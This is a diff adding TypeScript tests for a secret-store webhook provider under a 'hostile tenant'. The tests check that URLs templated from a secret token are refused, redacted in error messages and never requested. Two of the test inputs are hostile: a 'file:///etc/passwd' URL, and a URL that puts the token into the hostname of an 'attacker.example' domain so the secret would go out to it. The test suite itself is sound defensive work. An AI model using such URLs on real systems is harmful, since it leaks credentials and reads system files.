@@ -225,3 +225,35 @@ describe('hostile tenant: a Secret only from its own read', () => {
 });
 
 const b64ish = (s: string) => Buffer.from(s).toString('base64');
+
+describe('hostile tenant: the rendered URL in messages', () => {
+  it('a URL rendered from the token whose scheme is the token: the message does not name it', async () => {
+    const r = await tenancy.run([store({ url: '{{ .auth.token }}://x/y' }), reads()], p, app());
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("the rendered URL's scheme (rendered from secrets, not shown) is not http or https");
+    noSecretsIn(r.stderr);
+    none();
+  });
+
+  it('a file: URL from the manifest is refused by its scheme, named, zero requests', async () => {
+    const r = await tenancy.run([store({ url: 'file:///etc/passwd' }), reads()], p, app());
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("spec.provider.webhook.url: the rendered URL's scheme is file, not http or https");
+    none();
+  });
+
+  it('a URL that is only the token: not quoted', async () => {
+    const r = await tenancy.run([store({ url: '{{ .auth.token }}:' }), reads()], p, app());
+    expect(r.code).toBe(1);
+    noSecretsIn(r.stderr);
+    none();
+  });
+
+  it('a host made of the token under no allowlist entry: shown REDACTED', async () => {
+    const r = await tenancy.run([store({ url: 'http://{{ .auth.token }}.attacker.example/x' }), reads()], p, app());
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('http://redacted.attacker.example/x');
+    noSecretsIn(r.stderr);
+    none();
+  });
+});
